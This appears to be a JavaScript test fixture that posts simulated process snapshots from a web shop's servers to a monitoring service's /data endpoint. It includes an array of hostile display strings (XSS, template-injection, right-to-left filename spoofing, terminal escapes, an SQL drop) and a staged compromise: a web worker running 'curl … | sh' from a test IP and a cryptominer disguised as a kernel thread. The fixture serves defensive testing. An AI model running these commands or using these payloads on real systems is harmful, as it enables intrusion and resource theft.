// What runs on the machines of the shop, as their agents would tell it: a day-old list, and what changed since.

const MINUTE = 60_000;

/** Names and arguments that try to be markup, to be more than one line, or to be too much. */
const HOSTILE = [
  ['<img src=x>', '<script>window.pwned=1</script> "><svg/onload=window.pwned=1>'],
  ['two\nlines', 'first line\nsecond line\ttab \u001b[31mred\u001b[0m \u0007'],
  ['\u202egnp.exe', '/tmp/\u202egnp.exe --\u2066isolated\u2069 {{constructor.constructor("window.pwned=1")()}}'],
  ['lossy\ufffd', '/usr/bin/lossy \ufffd\ufffd javascript:window.pwned=1'],
  ['long', `/usr/bin/long ${'a'.repeat(4096)} ${'b '.repeat(2048)}`],
  ["o'quote\\", `sh -c 'echo "'; DROP TABLE processes; --"'`],
];

const listens = (...ports) => ({ open_ports: ports, listening: ports.map((port) => ({ protocol: 'tcp', address: '0.0.0.0', port })) });

/** @param {number} now @param {boolean} isHostile */
function told(now, isHostile) {
  const day = now - 24 * 60 * MINUTE;
  const at = (ms) => new Date(ms).toISOString();
  const process = (pid, ppid, name, command, { started = day - 60 * MINUTE, user = 'root', uid = 0, rss = 9e6, cpu = 4, ports = [], ...more } = {}) => ({
    pid, ppid, started_at: at(started), name, command, executable: `/usr/sbin/${name}`, executable_deleted: false, user, uid, gid: uid, real_uid: uid,
    capabilities: [], cpu_seconds: cpu, rss_bytes: rss, ...listens(...ports), kernel_thread: false, set_uid: false, namespaces: [], cwd: '/', ...more,
  });
  const thread = (pid, name) => process(pid, pid === 2 ? 0 : 2, name, '', { kernel_thread: true, executable: null, rss: 0, cpu: 1 });
  const web = { user: 'www-data', uid: 33 };
  const present = [
    process(1, 0, 'systemd', '/sbin/init', { executable: '/usr/lib/systemd/systemd', rss: 14e6, cpu: 31 }),
    thread(2, 'kthreadd'), thread(3, 'rcu_gp'), thread(17, 'kworker/0:1'), thread(18, 'ksoftirqd/0'),
    process(410, 1, 'cron', '/usr/sbin/cron -f', { rss: 3e6 }),
    process(512, 1, 'sshd', '/usr/sbin/sshd -D', { ports: [22], rss: 8e6 }),
    process(600, 1, 'nginx', 'nginx: master process /usr/sbin/nginx', { ports: [80, 443], rss: 12e6 }),
    ...[601, 602, 603].map((pid) => process(pid, 600, 'nginx', 'nginx: worker process', { ...web, rss: 31e6, cpu: 1840 })),
    process(700, 1, 'containerd', '/usr/bin/containerd', { executable: '/usr/bin/containerd', rss: 48e6 }),
    process(812, 700, 'shop', '/usr/bin/shop --serve --database db-1:5432 --password ********', { ...web, executable: '/usr/bin/shop', rss: 812e6, cpu: 40_310, ports: [8081], container: '4f1c2a77be01', cwd: '/srv/shop' }),
    process(830, 700, 'postgres', 'postgres -D /var/lib/postgresql', { user: 'postgres', uid: 110, executable: '/usr/lib/postgresql/17/bin/postgres', rss: 233e6, cpu: 903, ports: [5432], container: '9a00c1d2e3f4' }),
    ...(isHostile ? HOSTILE.map(([name, command], n) => process(900 + n, 1, name, command, { executable: `/usr/bin/${name}`, container: '<b>box</b>', user: '<u>who</u>' })) : []),
  ];
  const begun = (minutes) => now - minutes * MINUTE;
  const shell = process(2290, 602, 'sh', 'sh -c curl -s http://203.0.113.9/x | sh', { ...web, executable: '/usr/bin/dash', started: begun(42), rss: 1.6e6, cpu: 0.02, standard_input: 'network', cwd: '/var/www' });
  const miner = process(2304, 2290, 'kworker/u8:3', '/tmp/.x/kworker --threads 4 --pool 203.0.113.9:3333', { ...web, executable: '/tmp/.x/kworker', executable_deleted: true, started: begun(41), rss: 310e6, cpu: 2340, ports: [3333], cwd: '/tmp/.x' });
  const job = process(2410, 410, 'backup', '/usr/local/bin/backup --nightly', { executable: '/usr/local/bin/backup', started: begun(30) });
  const changes = [
    ...present.map((one) => ({ kind: 'present', at: at(day), process: one })),
    { kind: 'started', at: at(begun(42)), process: shell },
    { kind: 'started', at: at(begun(41)), process: miner },
    { kind: 'started', at: at(begun(30)), process: job },
    { kind: 'ended', at: at(begun(28)), process: job },
    { kind: 'listening_changed', at: at(begun(12)), process: { ...present.find(({ pid }) => pid === 812), ...listens(8081, 9090) } },
  ];
  return { agent_name: 'web-1', timestamp: at(now - 90_000), interval: 120, metrics: {}, processes: { boot_id: 'b', source: 'procmond', told_by_kernel: true, begins: true, complete: true, changes } };
}

/** Sends what runs on web-1, and a little of db-1. */
export async function tell(base, now = Date.now(), isHostile = true) {
  const web = told(now, isHostile);
  const few = web.processes.changes.filter(({ kind, process }) => kind === 'present' && [1, 2, 512, 830].includes(process.pid));
  const list = { ...web.processes, changes: web.processes.changes.filter(({ kind }) => kind === 'present') };
  const later = { boot_id: 'b', source: 'procmond', told_by_kernel: true, changes: web.processes.changes.filter(({ kind }) => kind !== 'present') };
  for (const body of [{ ...web, processes: list }, { ...web, timestamp: new Date(now - 30_000).toISOString(), processes: later }, { ...web, agent_name: 'db-1', processes: { ...list, changes: few } }]) {
    const answer = await fetch(`${base}/data`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
    if (!answer.ok) throw new Error(`POST /data: ${answer.status} ${await answer.text()}`);
  }
}
